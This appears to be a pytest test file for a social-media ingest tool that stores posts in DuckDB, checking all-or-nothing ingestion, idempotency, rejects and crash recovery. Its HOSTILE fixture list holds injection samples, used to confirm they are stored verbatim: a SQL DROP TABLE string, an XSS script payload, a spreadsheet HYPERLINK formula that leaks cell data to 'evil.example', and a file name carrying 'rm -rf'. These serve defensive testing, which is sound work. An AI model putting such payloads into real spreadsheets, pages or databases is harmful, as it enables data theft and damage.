"""Ingest guarantees: all-or-nothing per file, idempotent, quarantined rejects, exact bytes."""

from __future__ import annotations

import gzip
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import orjson
import pyarrow.parquet as pq
import pytest

from fimiscope.errors import FormatMismatchError, IngestError, UnknownFormatError
from fimiscope.ingest import ingest, merge, staging
from fimiscope.store import Store
from tests.conftest import FIXTURES, page, tweet, user

SEARCH = FIXTURES / "x_v2" / "search_page.jsonl"
HOSTILE = [
    "'; DROP TABLE posts; --",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bell\x07 escape\x1b[31m red tab\t cr\r nul-free",
    "flags 🇯🇵 family 👨\u200d👩\u200d👧 astral 𠮷",
    "\u202eevil\u202c and \u200f right-to-left mark",
    "back\\slash \"quotes\" and 'single'",
]


def snapshot(store: Store) -> dict[str, list[tuple]]:
    return {
        t: store.sql(f"SELECT * FROM {t} ORDER BY ALL")
        for t in (
            "posts",
            "accounts",
            "engagements",
            "post_refs",
            "post_urls",
            "post_hashtags",
            "post_mentions",
            "post_media",
            "sources",
            "rejects",
        )
    }


def test_search_fixture_rows(store: Store) -> None:
    [info] = ingest(store, SEARCH)
    # 3 tweets in data + 1 included original (same id as data[0]) + 2 users + 2 liking users
    # + 2 bad lines = 10 records; 3 new non-stub posts; the missing quoted tweet is a stub.
    assert (info.records, info.posts, info.rejected, info.engagements) == (10, 3, 2, 2)
    kinds = dict(store.sql("SELECT post_id, kind FROM posts"))
    assert kinds == {
        "1945000000000000001": "post",
        "1945000000000000002": "repost",
        "1945000000000000003": "reply",
        "1944000000000000099": "post",
    }
    assert store.sql("SELECT is_stub FROM posts WHERE post_id = '1944000000000000099'") == [(True,)]
    # The reply also quotes: two references, the reply is the primary one.
    assert store.sql(
        "SELECT ref_type, ref_post_id FROM post_refs WHERE post_id = "
        "'1945000000000000003' ORDER BY ref_type"
    ) == [("quote", "1944000000000000099"), ("reply", "1945000000000000001")]
    assert store.sql("SELECT url_norm, domain FROM post_urls") == [
        ("https://www.asahi.com/articles/ASX1.html?s=20", "asahi.com")
    ]
    assert store.sql("SELECT tag, tag_norm FROM post_hashtags") == [("参院選", "参院選")]
    assert store.sql(
        'SELECT account_id, kind, target_post_id, "at" FROM engagements ORDER BY 1'
    ) == [
        ("1002", "like", "1945000000000000001", None),
        ("1003", "like", "1945000000000000001", None),
    ]
    assert store.sql("SELECT line, location, reason FROM rejects ORDER BY line") == [
        (3, "data[0]", "bad created_at 'not a time'"),
        (
            4,
            None,
            "invalid JSON: unexpected control character in string: line 1 column 80 (char 79)",
        ),
    ]
    # Accounts seen only as authors or engagers still get a row; first_seen_at is their first act.
    assert store.sql(
        "SELECT account_id, handle_norm, default_profile_image, first_seen_at IS NOT NULL "
        "FROM accounts ORDER BY 1"
    ) == [
        ("1001", "alice_jp", False, True),
        ("1002", "yuki84629175", True, True),
        ("1003", "bob", None, True),
    ]


def test_reingest_is_a_no_op_and_overlaps_do_not_double(store: Store, tmp_path: Path) -> None:
    ingest(store, SEARCH)
    before = snapshot(store)
    [again] = ingest(store, SEARCH)
    assert again.skipped and snapshot(store) == before
    # Different bytes, overlapping content: the shared tweet is not stored twice.
    other = tmp_path / "other.jsonl"
    other.write_bytes(
        page(
            [
                tweet(1945000000000000001, 1001, "物価高は政府のせいだ"),
                tweet(1945000000000000777, 1001, "new one"),
            ]
        )
    )
    [info] = ingest(store, other)
    assert info.posts == 1
    assert store.sql("SELECT count(*) FROM posts WHERE post_id = '1945000000000000001'") == [(1,)]


def test_stub_is_upgraded_by_a_later_full_copy(store: Store, tmp_path: Path) -> None:
    ingest(store, SEARCH)
    full = tmp_path / "full.jsonl"
    full.write_bytes(page([tweet(1944000000000000099, 1009, "the quoted tweet, found later")]))
    ingest(store, full)
    assert store.sql("SELECT is_stub, text FROM posts WHERE post_id = '1944000000000000099'") == [
        (False, "the quoted tweet, found later")
    ]


def test_hostile_text_is_stored_byte_exact(store: Store, tmp_path: Path) -> None:
    path = tmp_path / 'it\'s "hostile"; rm -rf.jsonl'  # the path itself is hostile too
    tweets = [tweet(100 + i, 7, t) for i, t in enumerate(HOSTILE)]
    path.write_bytes(page(tweets, [user(7, "evil", name=HOSTILE[1], description=HOSTILE[0])]))
    [info] = ingest(store, path)
    assert info.rejected == 0
    got = dict(store.sql("SELECT post_id, text FROM posts"))
    assert [got[str(100 + i)] for i in range(len(HOSTILE))] == HOSTILE
    assert store.sql("SELECT display_name, description FROM accounts") == [(HOSTILE[1], HOSTILE[0])]
    assert store.count("posts") == len(HOSTILE)  # and the posts table still exists


def test_round_trip_through_parquet(store: Store, tmp_path: Path) -> None:
    lines = [
        page(
            [
                tweet(
                    1000 + 10 * p + i,
                    50 + i,
                    f"投稿 {p}-{i} #tag{i}",
                    at=f"2025-07-1{p}T0{i}:00:00.000Z",
                )
                for i in range(5)
            ],
            [user(50 + i, f"u{i}") for i in range(5)],
        )
        for p in range(3)
    ]
    src = tmp_path / "in.jsonl"
    src.write_bytes(b"".join(lines))
    ingest(store, src)
    store.export_table("posts", tmp_path / "posts.parquet")
    back = pq.read_table(tmp_path / "posts.parquet").to_pylist()
    sent = {t["id"]: t for line in lines for t in orjson.loads(line)["data"]}
    assert {r["post_id"] for r in back} == set(sent)
    for r in back:
        t = sent[r["post_id"]]
        assert (r["text"], r["account_id"]) == (t["text"], t["author_id"])
        assert r["created_at"].strftime("%Y-%m-%dT%H:%M:%S.000Z") == t["created_at"]


def test_gzip_folders_and_globs(store: Store, tmp_path: Path) -> None:
    (tmp_path / "d" / "sub").mkdir(parents=True)
    with gzip.open(tmp_path / "d" / "a.jsonl.gz", "wb") as f:
        f.write(page([tweet(1, 1, "gz")]))
    (tmp_path / "d" / "sub" / "b.jsonl").write_bytes(page([tweet(2, 1, "plain")]))
    (tmp_path / "d" / ".hidden.jsonl").write_bytes(b"garbage")
    infos = ingest(store, [tmp_path / "d"])
    assert sorted(i.posts for i in infos) == [1, 1]
    assert ingest(store, [str(tmp_path / "d" / "**" / "*.jsonl")])[0].skipped


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"\x00\x01\x02 binary garbage \xff", UnknownFormatError),
        (b"just some words\nand more words\n", UnknownFormatError),
        (b'{"unrelated": true}\n', UnknownFormatError),
    ],
)
def test_unrecognised_files(store: Store, tmp_path: Path, content: bytes, error: type) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_bytes(content)
    with pytest.raises(error) as exc:
        ingest(store, path)
    assert str(path) in str(exc.value) and "\n" not in str(exc.value)
    assert store.count("sources") == 0


def test_wrong_format_named_and_empty_file(store: Store, tmp_path: Path) -> None:
    with pytest.raises(FormatMismatchError, match="expected"):
        ingest(store, SEARCH, format="jetstream")
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    with pytest.raises(IngestError, match="empty"):
        ingest(store, empty)


def test_every_record_rejected_fails_the_file(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "t.jsonl"
    path.write_bytes(page([tweet(1, 1, "x", at="garbage")]) + page([tweet(2, 1, "y", at="nope")]))
    with pytest.raises(IngestError, match="every one"):
        ingest(store, path)
    assert store.count("posts") == 0 and store.count("rejects") == 0


def test_failure_during_merge_leaves_the_store_as_it_was(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ingest(store, SEARCH)
    before = snapshot(store)
    path = tmp_path / "more.jsonl"
    path.write_bytes(page([tweet(5, 5, "more")]))

    def boom(con: object, stage: object, source_id: int) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(merge, "_merge_engagements", boom)
    with pytest.raises(RuntimeError):
        ingest(store, path)
    assert snapshot(store) == before
    assert staging_dirs(store) == []  # the staged files are gone too


def staging_dirs(store: Store) -> list[Path]:
    db = Path(store.path)
    return sorted(db.parent.glob(f".{db.name}.ingest-*"))


def test_kill_during_ingest_leaves_the_store_unchanged(tmp_path: Path) -> None:
    db = tmp_path / "s.duckdb"
    with Store(db) as s:
        ingest(s, SEARCH)
        before = snapshot(s)
    big = tmp_path / "big.jsonl"
    with big.open("wb") as f:
        f.write(page([tweet(10**8, 1, "first")]))
        f.write(b"not json, so this chunk takes the slow record-by-record path\n")
        for p in range(2500):
            f.write(
                page(
                    [tweet(10**9 + 100 * p + i, i % 97, f"post {p} {i} #選挙") for i in range(100)],
                    [user(i, f"user{i}") for i in range(97)],
                )
            )
    proc = subprocess.Popen(
        [sys.executable, "-m", "fimiscope.cli", "ingest", str(big), "-s", str(db)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "FIMISCOPE_NO_PROGRESS": "1"},
    )
    time.sleep(1.5)
    assert proc.poll() is None, (
        "the ingest finished before it could be killed; make the file bigger"
    )
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    with Store(db) as s:
        assert snapshot(s) == before
        assert ingest(s, big)[0].posts == 250_001  # and the file can be ingested afterwards
        # whatever the killed process had staged beside the store is gone
        assert staging_dirs(s) == []


def test_failure_while_staging_leaves_the_store_and_no_files(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ingest(store, SEARCH)
    before = snapshot(store)
    path = tmp_path / "more.jsonl"
    path.write_bytes(b"".join(page([tweet(10 + i, 5, f"more {i}")]) for i in range(30)))
    real = staging.StageFiles.append
    calls = []

    def append_then_fail(self: staging.StageFiles, table: str, batch: object) -> None:
        calls.append(table)
        real(self, table, batch)  # type: ignore[arg-type]
        assert list(self.dir.glob(f"{table}-*.parquet")), "rows are staged as Parquet"
        raise OSError("disk full")

    monkeypatch.setattr(staging.StageFiles, "append", append_then_fail)
    with pytest.raises(IngestError, match="disk full"):
        ingest(store, path, batch_size=5)
    assert calls, "the failure must come from staging"
    assert snapshot(store) == before
    assert staging_dirs(store) == []


def test_folders_of_killed_ingests_are_removed_by_the_next(store: Store, tmp_path: Path) -> None:
    db = Path(store.path)
    # what a process killed while staging leaves (its pid cannot be ours)
    stale = db.parent / f".{db.name}.ingest-{os.getpid() + 1}-0123456789ab"
    stale.mkdir()
    (stale / "posts-000001.parquet").write_bytes(b"half written")
    other = db.parent / "ingest-notes.txt"  # not ours: left alone
    other.write_text("keep")
    ingest(store, SEARCH)
    assert not stale.exists() and other.exists()
    assert staging_dirs(store) == []
